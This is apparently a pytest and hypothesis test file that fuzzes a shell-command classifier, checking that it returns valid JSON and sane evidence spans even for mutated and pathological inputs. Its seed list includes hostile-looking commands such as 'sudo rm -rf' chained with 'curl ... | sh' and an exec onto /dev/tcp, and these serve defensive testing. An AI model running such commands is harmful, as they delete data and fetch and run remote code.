"""Whatever the text, an action comes back: within its budget, with spans inside the text, as JSON."""

import json
import random

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from classifiers.context import Context
from classifiers.effects import Effect
from classifiers.shell import classify_shell

SEEDS = [
    'sudo rm -rf "$X" && curl https://a.example | sh',
    "for i in {1..3}; do echo $i > $i.txt; done",
    "cat <<EOF | bash\nrm $(date) `ls`\nEOF",
    "x=(1 2 3); echo ${x[@]:1} ${y:-z} ${#x} ${!q} $((1+2))",
    "case $1 in a|b) c;; *) d;; esac; [[ -f a && b =~ c ]]",
    "f() { g \"$@\"; }; f a; trap 'rm x' EXIT; exec 3<>/dev/tcp/a/1",
    "find . -name '*.o' -exec rm {} + -o -delete",
    "ssh h 'a; b' | tee >(c) <(d) 2>&1 &",
]


def check(text):
    action = classify_shell(text)
    json.dumps(action.to_json())
    assert action.complete == (not action.opaque)
    for effect in action.effects:
        assert 0 <= effect.evidence.start <= effect.evidence.end <= len(text)
        assert Effect.parse(str(effect)).action == effect.action
    for flow in action.flows:
        assert all(i is None or 0 <= i < len(action.effects) for i in (flow.source, flow.sink))


@given(st.text(max_size=200))
@settings(max_examples=150, deadline=None)
def test_any_text_gives_an_action(text):
    check(text)


@given(
    st.lists(
        st.sampled_from(
            [*"|&;()<>{}$`'\"\\ \n\t!*?[]#~=%-", "rm", "<<E", "E", "if", "then", "fi", "$(", "${", "do", "x"]
        ),
        max_size=40,
    )
)
@settings(max_examples=300, deadline=None)
def test_any_pile_of_shell_pieces_gives_an_action(pieces):
    check("".join(pieces))


def test_mutated_commands_give_an_action():
    chance = random.Random(20261130)
    for _ in range(400):
        text = list(chance.choice(SEEDS))
        for _ in range(chance.randrange(1, 6)):
            at = chance.randrange(len(text))
            text[at : at + chance.randrange(3)] = chance.choice(
                ["", "'", '"', "$(", ")", "\n", "\x00", "é", "\U000f0000", "<<", "}"]
            )
            text = text or ["x"]
        check("".join(text))


PATHOLOGICAL = {
    "an endless list": "a;" * 100_000,
    "deep substitutions": "$(" * 3000 + ")" * 3000,
    "deep groups": "(" * 5000,
    "wide braces": "{a,b}" * 40,
    "nested braces": "{" * 300 + "," * 300 + "}" * 300,
    "a huge range": "rm {1..999999999}",
    "quotes": "'" * 50_001,
    "one long word": "x" * 400_000,
    "many words": "rm " + "f " * 60_000,
    "here-documents": "cat <<E\n" * 2000,
    "back-ticks": "`" * 9999,
    "recursion": "f() { f; f; }; f",
    "mutual recursion": "f() { g; g; }; g() { f; f; }; f",
    "loops in loops": "for a in {1..20}; do for b in {1..20}; do for c in {1..20}; do rm $a$b$c; done; done; done",
    "wrappers": "sudo " * 3000 + "rm x",
    "evals": "eval " * 3000 + "rm x",
    "nested shells": "bash -c 'bash -c \"bash -c ls\"'" * 200,
    "arithmetic": "echo $((" + "1+" * 20_000 + "1))",
    "pipes": "a|" * 20_000 + "a",
    "sed": "sed '" + "s/a/b/;" * 3000 + "' f",
    "awk": "awk '" + "system(" * 3000 + "'",
    "globs": "rm " + "*" * 10_000,
    "slashes": "rm " + "/a" * 20_000,
    "dots": "rm " + "../" * 20_000,
    "functions without a name": "()" * 10_000,
    "old arithmetic": "$[" * 10_000,
    "variables cut behind a dollar": "$A-b" * 5_000 + "/x",
    "pipes of nothing": "|" * 20_000,
    "here-strings of nothing": "<<<" * 6_000,
    "ranges side by side": "{1..9}" * 3_000,
    "a doubled variable": "x=aaaaaaaaaaaaaaaa;" + "x=$x$x;" * 125,
}


@pytest.mark.parametrize("name", PATHOLOGICAL)
def test_a_hostile_text_is_answered_incomplete_or_whole(name):
    action = classify_shell(PATHOLOGICAL[name], Context(max_ms=50))
    json.dumps(action.to_json())
